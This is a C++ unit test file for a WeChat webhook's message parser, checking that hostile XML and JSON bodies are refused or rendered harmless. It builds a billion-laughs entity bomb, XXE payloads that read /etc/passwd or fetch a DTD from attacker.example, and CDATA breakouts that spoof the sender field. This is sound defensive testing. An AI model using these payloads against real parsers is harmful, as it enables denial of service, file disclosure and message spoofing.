// A4 of the attack table: what the parsers must bear, through the webhook.

#include "tests/unit/wechat/rig.hpp"

#include "bot/base/text.hpp"

#include <catch2/catch.hpp>

#include <chrono>

using namespace zhuqi;
using namespace zhuqi::wechat;
using namespace zhuqi::wechat::test;

namespace {

std::string text_of(const pipeline::message_fields& m) { return std::get<dialogs::event::text>(m.event).text; }
bool is_unparsable(const pipeline::message_fields& m) {
  const auto* notice = std::get_if<dialogs::event::notice>(&m.event);
  return notice != nullptr && notice->kind == "unparsable";
}

std::string nested(std::size_t depth) {
  std::string open;
  std::string close;
  for (std::size_t i = 0; i < depth; ++i) {
    open += "<a>";
    close += "</a>";
  }
  return open + close;
}

std::string billion_laughs() {
  std::string dtd = "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">";
  for (int i = 1; i < 10; ++i) {
    dtd += "<!ENTITY lol" + std::to_string(i) + " \"";
    for (int k = 0; k < 10; ++k) dtd += "&lol" + (i == 1 ? std::string{} : std::to_string(i - 1)) + ";";
    dtd += "\">";
  }
  return dtd + "]><xml><ToUserName>" + account + "</ToUserName><FromUserName>" + user +
         "</FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType><Content>&lol9;</Content><MsgId>1</MsgId></"
         "xml>";
}

/// Runs one hostile body in plaintext mode and says how long it took.
struct attempt {
  explicit attempt(const std::string& body) {
    const auto start = std::chrono::steady_clock::now();
    answer = r.post_plain(body);
    took = std::chrono::steady_clock::now() - start;
  }
  rig r{security_mode::plaintext};
  http::response answer;
  std::chrono::steady_clock::duration took{};
};

}  // namespace

TEST_CASE("A4: a DOCTYPE is refused, whatever it declares, and nothing is read or expanded") {
  const std::string body =
      GENERATE_COPY(as<std::string>{}, billion_laughs(),
                    "<!DOCTYPE xml [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>" + text_xml("&x;"),
                    "<!DOCTYPE xml SYSTEM \"http://attacker.example/evil.dtd\">" + text_xml("x"),
                    "<!DOCTYPE xml PUBLIC \"a\" \"b\">" + text_xml("x"), "<!DOCTYPE xml>" + text_xml("x"),
                    "  \n<!DOCTYPE xml [<!ENTITY a \"" + std::string(20'000, 'a') + "\">]>" + text_xml("&a;&a;&a;"));
  attempt a{body};
  CHECK(a.answer.status == 400);
  CHECK(a.r.submitted.empty());
  CHECK(a.answer.body == "bad request\n");
  CHECK(a.took < std::chrono::milliseconds{50});
}

TEST_CASE("A4: a DOCTYPE around the envelope is refused as unproved") {
  rig r{security_mode::secure};
  const std::string encrypt = sealed(text_xml("x"));
  CHECK(r.post(secure_params(encrypt), "<!DOCTYPE xml>" + xml_envelope(encrypt)).status == 403);
}

TEST_CASE("A4: the word DOCTYPE in a user's text is just text") {
  attempt a{text_xml("<!DOCTYPE html> 是什么？")};
  CHECK(a.answer.status == 200);
  REQUIRE(a.r.submitted.size() == 1);
  CHECK(text_of(a.r.submitted[0]) == "<!DOCTYPE html> 是什么？");
}

TEST_CASE("A4: entities are never looked up") {
  attempt a{"<xml><ToUserName>" + account + "</ToUserName><FromUserName>" + user +
            "</FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType><Content>&x;&amp;&#65;</Content><MsgId>1</"
            "MsgId></xml>"};
  REQUIRE(a.r.submitted.size() == 1);
  CHECK(text_of(a.r.submitted[0]) == "&x;&A");
}

TEST_CASE("A4: deep nesting is refused quickly, the depth of real messages passes") {
  std::string body = text_xml("x");
  const std::size_t depth = GENERATE(as<std::size_t>{}, 14, 15, 16, 5'000);
  body.insert(body.find("<MsgId>"), nested(depth));
  attempt a{body};
  INFO("depth " << depth + 1);
  CHECK(a.answer.status == (depth + 1 <= limits::xml_depth ? 200 : 400));
  CHECK(a.took < std::chrono::milliseconds{50});
}

TEST_CASE("A4: a flood of fields is refused quickly") {
  std::string body = text_xml("x");
  std::string flood;
  for (int i = 0; i < 5'000; ++i) flood += "<f" + std::to_string(i) + "/>";
  body.insert(body.find("<MsgId>"), flood);
  attempt a{body};
  CHECK(a.answer.status == 400);
  CHECK(a.took < std::chrono::milliseconds{50});
}

TEST_CASE("A4: 1 MB of XML is 413 in every mode, before anything is parsed") {
  rig r{GENERATE(security_mode::plaintext, security_mode::compatible, security_mode::secure)};
  const auto answer = r.post(plain_params(), text_xml(std::string(1024 * 1024, 'x')));
  CHECK(answer.status == 413);
  CHECK(r.submitted.empty());
}

TEST_CASE("A4: characters that XML cannot carry are dropped and the rest is kept") {
  struct row {
    std::string sent;
    std::string read;
  };
  const auto [sent, read] = GENERATE(values<row>({
      {std::string("a\0b", 3), "ab"},
      {"a\x01\x08\x0B\x1F"
       "b",
       "ab"},
      {"tab\there", "tab\there"},
      {"emoji 😀𠮷 补贴", "emoji 😀𠮷 补贴"},
      {"bad \xC3\x28 utf8", "bad \xEF\xBF\xBD( utf8"},
      {"overlong \xC0\xAF", "overlong \xEF\xBF\xBD\xEF\xBF\xBD"},
      {"surrogate \xED\xA0\x80", "surrogate \xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD"},
      {"&amp; < > \" '", "&amp; < > \" '"},
  }));
  rig r{security_mode::plaintext};
  CHECK(r.post_plain(text_xml(sent)).status == 200);
  REQUIRE(r.submitted.size() == 1);
  CHECK(text_of(r.submitted[0]) == read);
  CHECK(text::is_utf8(text_of(r.submitted[0])));
}

TEST_CASE("A4: character references cannot smuggle control characters or broken UTF-8") {
  attempt a{"<xml><ToUserName>" + account + "</ToUserName><FromUserName>" + user +
            "</FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType>"
            "<Content>a&#1;&#x1F;&#xD800;&#x110000;b</Content><MsgId>1</MsgId></xml>"};
  REQUIRE(a.r.submitted.size() == 1);
  const std::string text = text_of(a.r.submitted[0]);
  CHECK(text::is_utf8(text));
  CHECK(text::strip_controls(text) == text);
}

TEST_CASE("A4: a byte order mark is skipped; UTF-16 and other encodings are taken without effect and raise an alarm") {
  CHECK(attempt{"\xEF\xBB\xBF" + text_xml("x")}.r.submitted.size() == 1);
  std::string utf16 = "\xFF\xFE";
  for (char c : text_xml("x")) utf16 += {c, '\0'};
  attempt a{utf16};
  CHECK(a.answer.status == 200);
  CHECK(a.answer.body == "success");
  CHECK(a.r.submitted.empty());
  CHECK(a.r.alarms == std::vector<std::string>{"unparsable"});
}

TEST_CASE("A4: GBK bytes become replacement characters, not a crash") {
  attempt a{text_xml("\xB2\xB9\xCC\xF9")};
  REQUIRE(a.r.submitted.size() == 1);
  CHECK(text::is_utf8(text_of(a.r.submitted[0])));
}

TEST_CASE("A4: ']]>' in a user's text cannot add or replace a field") {
  const std::string breakout =
      GENERATE("x]]></Content><FromUserName><![CDATA[oVICTIM]]></FromUserName><Content><![CDATA[",
               "x]]></Content><MsgId>1</MsgId><Content><![CDATA[", "x]]></Content></xml><xml><Content><![CDATA[",
               "x]]></Content></xml><!--", "x]]></Content><Content><![CDATA[y");
  attempt a{text_xml(breakout)};
  CHECK(a.answer.status == 200);
  REQUIRE(a.r.submitted.size() == 1);
  CHECK(a.r.submitted[0].user == user);
  CHECK(a.r.submitted[0].account == account);
  CHECK(a.r.submitted[0].key.created_s == 1409735668);
  CHECK(is_unparsable(a.r.submitted[0]));
  CHECK(a.r.submitted[0].origin_id.empty());
  CHECK(a.r.alarms == std::vector<std::string>{"unparsable"});
}

TEST_CASE("A4: a ']]>' in a text that adds no element is read as it was typed, split by the platform or not") {
  struct row {
    std::string sent;
    std::string read;
  };
  const auto [sent, read] = GENERATE(values<row>({
      {"a]]>b", "a]]>b"},
      {"]]>", "]]>"},
      {"]]>]]>", "]]>]]>"},
      {"<![CDATA[nested]]>", "<![CDATA[nested]]>"},
      {"a]]]]><![CDATA[>b", "a]]>b"},
      {"]]", "]]"},
  }));
  attempt a{text_xml(sent)};
  REQUIRE(a.r.submitted.size() == 1);
  CHECK(text_of(a.r.submitted[0]) == read);
}

TEST_CASE("A4: a doubled scalar element is treated as hostile") {
  const std::string name = GENERATE("MsgId", "FromUserName", "ToUserName", "Content", "CreateTime", "MsgType");
  std::string body = text_xml("x");
  body.insert(body.find("</xml>"), "<" + name + ">other</" + name + ">");
  attempt a{body};
  REQUIRE(a.r.submitted.size() == 1);
  CHECK(is_unparsable(a.r.submitted[0]));
  CHECK(a.r.submitted[0].user == user);
}

TEST_CASE("A4: a doubled Encrypt, or a doubled JSON key, is refused or taken without effect") {
  rig r{security_mode::secure};
  const std::string encrypt = sealed(text_xml("x"));
  std::string body = xml_envelope(encrypt);
  body.insert(body.find("</xml>"), "<Encrypt>" + encrypt + "</Encrypt>");
  CHECK(r.post(secure_params(encrypt), body).status == 403);
  CHECK(r.post(secure_params(encrypt), R"({"Encrypt":")" + encrypt + R"(","Encrypt":"x"})").status == 403);
  CHECK(r.submitted.empty());

  attempt a{R"({"ToUserName":"a","FromUserName":"b","FromUserName":"c","CreateTime":1,"MsgType":"text"})"};
  CHECK(a.answer.body == "success");
  CHECK(a.r.submitted.empty());
  CHECK(a.r.alarms.size() == 1);
}

TEST_CASE(
    "An authentic body that breaks off is answered with success, so that no retry storm begins, and leaves a trace") {
  const std::string whole = text_xml("你好");
  for (std::size_t length = 0; length < whole.size(); ++length) {
    attempt a{whole.substr(0, length)};
    REQUIRE(a.answer.status == 200);
    REQUIRE(a.r.alarms.size() == 1);
    for (const auto& m : a.r.submitted) REQUIRE(is_unparsable(m));
  }
}

TEST_CASE("Bodies that are no messages are taken without effect") {
  const std::string body =
      GENERATE("", " ", "hello", "[]", "{}", "{", "<", "<xml/>", "null", "\"x\"", "<xml>", "<?xml?>", "<!---->");
  attempt a{body};
  CHECK(a.answer.status == 200);
  CHECK(a.answer.body == "success");
  CHECK(a.r.submitted.empty());
}

TEST_CASE("JSON nested too deeply is refused") {
  attempt a{R"({"a":)" + std::string(10'000, '[') + std::string(10'000, ']') + "}"};
  CHECK(a.answer.status == 400);
}
